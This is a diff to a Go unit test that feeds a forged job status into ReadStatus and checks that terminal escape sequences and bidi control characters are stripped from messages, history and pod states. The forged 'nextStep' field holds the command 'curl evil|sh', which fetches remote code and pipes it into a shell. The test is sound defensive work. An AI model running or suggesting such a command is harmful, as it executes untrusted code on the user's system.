@@ -245,11 +245,14 @@ func TestCleanTextVectors(t *testing.T) {
 
 // A forged status read back is shown without its escape codes.
 func TestReadStatusCleans(t *testing.T) {
-	s, ok, err := ReadStatus(map[string]string{StatusAnnotation: `{"phase":"Failed","message":"\u001b[31mboom","nextStep":"\u001b]0;x\u0007curl evil|sh","nextSteps":["\u202eabc"]}`})
+	s, ok, err := ReadStatus(map[string]string{StatusAnnotation: `{"phase":"Failed","message":"\u001b[31mboom","nextStep":"\u001b]0;x\u0007curl evil|sh","nextSteps":["\u202eabc"],` +
+		`"history":[{"time":"2026-11-24T06:00:00Z","phase":"Failed","message":"\u001b[2Jgone"}],"pods":[{"role":"worker","index":1,"pod":"p","state":"\u001b[31mOOMKilled (exit 137)"}]}`})
 	if err != nil || !ok {
 		t.Fatalf("ReadStatus: %v %v", ok, err)
 	}
-	want := Status{Phase: PhaseFailed, Message: "boom", NextStep: "curl evil|sh", NextSteps: []string{"abc"}}
+	want := Status{Phase: PhaseFailed, Message: "boom", NextStep: "curl evil|sh", NextSteps: []string{"abc"},
+		History: []Transition{{Time: metav1.NewTime(time.Date(2026, 11, 24, 6, 0, 0, 0, time.UTC)), Phase: PhaseFailed, Message: "gone"}},
+		Pods:    []PodRecord{{Role: "worker", Index: 1, Pod: "p", State: "OOMKilled (exit 137)"}}}
 	if diff := cmp.Diff(want, s); diff != "" {
 		t.Errorf("(-want,+got):\n%s", diff)
 	}
